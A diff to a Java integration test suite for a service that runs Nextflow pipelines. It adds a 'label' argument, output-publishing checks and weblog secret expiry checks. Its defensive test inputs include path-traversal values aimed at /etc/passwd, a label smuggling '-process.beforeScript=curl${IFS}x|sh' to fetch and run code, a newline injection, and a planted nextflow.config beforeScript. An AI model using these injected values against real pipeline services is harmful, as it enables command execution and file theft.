@@ -50,8 +50,10 @@ import static org.awaitility.Awaitility.await;
 				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.reads.type=file-glob",
 				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.cutoff.type=number",
 				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.reference.type=path",
+				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.label.type=text",
 				"sciport.workflow.nextflow.pipelines.failing.parameters.mode=failure",
-				"sciport.workflow.nextflow.pipelines.waiting.parameters.mode=wait" })
+				"sciport.workflow.nextflow.pipelines.waiting.parameters.mode=wait",
+				"sciport.workflow.nextflow.pipelines.waiting.arguments.flag.type=path" })
 @AutoConfigureWebTestClient
 @Import(TestTokens.class)
 class NextflowRunsIntegrationTests {
@@ -99,9 +101,11 @@ class NextflowRunsIntegrationTests {
 		int id = projectOf("RNA");
 		upload(id, "raw", "reads_1.fq", "@r1\nACGT\n+\nIIII\n");
 		upload(id, "ref", "genome.fa", ">chr1\nACGT\n");
+		// Nextflow loads a nextflow.config from where it starts: a project's is never there.
+		upload(id, "", "nextflow.config", "process.beforeScript = 'echo owned'\n");
 		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "two-tasks", "workflow_arguments",
 				Map.of("reads", Map.of("type", "file-glob", "value", "/raw/*.fq"), "cutoff", Map.of("value", "0.05"),
-						"reference", "ref/genome.fa", "ignored", "--not-passed")))
+						"reference", "ref/genome.fa", "label", "RNA run 7", "ignored", "--not-passed")))
 			.expectStatus().isOk();
 
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk().expectBody()
@@ -112,8 +116,10 @@ class NextflowRunsIntegrationTests {
 		assertThat((Map<String, Object>) run.get("nextflow")).containsEntry("run_name", "tender_volta")
 			.containsEntry("run_id", "6f0c3a2e-1b7d-4c2a-9d1e-2a7f5b8c9e01").containsEntry("success", true)
 			.containsEntry("exit_status", 0);
+		// What it published is the project's now (a link into its work directory as the file it
+		// leads to, a link leading elsewhere left behind) and the run's outputs.
 		assertThat((List<Map<String, Object>>) run.get("outputs")).extracting((output) -> output.get("filename"))
-			.containsExactly("results/summary.txt");
+			.containsExactly("results/qc.html", "results/summary.txt");
 
 		// The run called what finished does: no longer scheduled, counters reset.
 		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
@@ -134,12 +140,15 @@ class NextflowRunsIntegrationTests {
 		assertThat(log).contains("argument: run", "argument: /opt/pipelines/two-tasks/main.nf", "argument: --reads",
 				"argument: " + root + "/raw/*.fq", "argument: --cutoff", "argument: 0.05", "argument: --reference",
 				"argument: " + root + "/ref/genome.fa", "argument: -work-dir",
-				"argument: " + runs.toAbsolutePath().resolve(run.get("id") + "/work"), "weblog answered 200");
+				"argument: " + runs.toAbsolutePath().resolve(run.get("id") + "/work"), "argument: --label",
+				"argument: RNA run 7", "weblog answered 200",
+				"Not published: results/hostname leads outside the run");
 		assertThat(log).noneMatch((line) -> line.contains("--not-passed") || line.contains("--ignored")
-				|| line.contains("basicToken"));
+				|| line.contains("basicToken") || line.contains("found a nextflow.config"));
 		assertThat(logMessages(id, "tail=1")).hasSize(1);
 		get(this.owner, "/api/projects/" + id + "/files?dir=results").expectStatus().isOk().expectBody()
-			.jsonPath("$.files[0]").isEqualTo("summary.txt");
+			.json("{\"folders\": [], \"files\": [\"qc.html\", \"summary.txt\"]}");
+		assertThat(root.resolve("results/qc.html")).isRegularFile().hasContent("qc report");
 		List<String> followed = this.client.get().uri("/api/projects/" + id + "/logs?follow=true")
 			.header("x-access-token", this.owner.token()).accept(MediaType.APPLICATION_NDJSON).exchange()
 			.expectStatus().isOk().returnResult(MAP).getResponseBody().map((line) -> (String) line.get("message"))
@@ -189,7 +198,7 @@ class NextflowRunsIntegrationTests {
 	void theWeblogTakesOnlyTheRunsSecretAndCountsEachProcessOnce() throws IOException {
 		int id = projectOf("Replayed");
 		int other = projectOf("Other");
-		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting")).expectStatus().isOk();
+		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
 			.jsonPath("$.errors.general[0]").isEqualTo("the project is scheduled already");
@@ -248,12 +257,15 @@ class NextflowRunsIntegrationTests {
 		assertThat(awaitEnded(id)).containsEntry("status", "succeeded");
 		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody()
 			.jsonPath("$.project.submitted_processes").isEqualTo(0).jsonPath("$.project.is_scheduled").isEqualTo(false);
+		// The secret ended with the run.
+		weblog(id, secret, started).expectStatus().isUnauthorized();
+		assertThat(runs.resolve(listed.get(0).get("id") + "/sciport-weblog.config")).doesNotExist();
 	}
 
 	@Test
 	void finishedIsForAdministratorsAndStopsARunUnderWay() {
 		int id = projectOf("Stopped");
-		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting")).expectStatus().isOk();
+		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
 		secretOf(id);
 		post(this.owner, "/api/projects/" + id + "/finished", Map.of()).expectStatus().isForbidden();
@@ -267,7 +279,7 @@ class NextflowRunsIntegrationTests {
 	@Test
 	void deletingAScheduledProjectCancelsItsRun() {
 		int id = projectOf("Deleted");
-		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting")).expectStatus().isOk();
+		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
 		secretOf(id);
 		post(this.owner, "/api/projects/" + id + "/delete", Map.of()).expectStatus().isOk();
@@ -284,18 +296,22 @@ class NextflowRunsIntegrationTests {
 		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "two-tasks")).expectStatus().isOk();
 		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
 			.jsonPath("$.errors.reads[0]").isEqualTo("cannot be empty").jsonPath("$.errors.cutoff[0]")
-			.isEqualTo("cannot be empty").jsonPath("$.errors.reference[0]").isEqualTo("cannot be empty");
+			.isEqualTo("cannot be empty").jsonPath("$.errors.reference[0]").isEqualTo("cannot be empty")
+			.jsonPath("$.errors.label[0]").isEqualTo("cannot be empty");
 		Path root = projects.resolve(Integer.toString(id));
 		Files.createDirectories(root.resolve("raw"));
 		Files.createSymbolicLink(root.resolve("raw/etc"), Path.of("/etc"));
 		for (Map<String, Object> arguments : List.of(
-				Map.<String, Object>of("reads", "../../etc/*", "cutoff", "a lot", "reference", "../../etc/passwd"),
-				Map.<String, Object>of("reads", "....//....//etc/*", "cutoff", List.of(1), "reference", "raw/etc/passwd"),
-				Map.<String, Object>of("reads", "raw/*/x.fq", "cutoff", "1e", "reference", "raw\\..\\..\\etc"))) {
+				Map.<String, Object>of("reads", "../../etc/*", "cutoff", "a lot", "reference", "../../etc/passwd", "label",
+						"-process.beforeScript=curl${IFS}x|sh"),
+				Map.<String, Object>of("reads", "....//....//etc/*", "cutoff", List.of(1), "reference", "raw/etc/passwd",
+						"label", "two\nlines"),
+				Map.<String, Object>of("reads", "raw/*/x.fq", "cutoff", "1e", "reference", "raw\\..\\..\\etc", "label",
+						"-c"))) {
 			post(this.owner, "/api/projects/" + id + "/update", Map.of("workflow_arguments", arguments)).expectStatus().isOk();
 			post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
 				.jsonPath("$.errors.reads[0]").exists().jsonPath("$.errors.cutoff[0]").isEqualTo("must be a number")
-				.jsonPath("$.errors.reference[0]").exists();
+				.jsonPath("$.errors.reference[0]").exists().jsonPath("$.errors.label[0]").exists();
 		}
 		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
 			.isEqualTo(false);
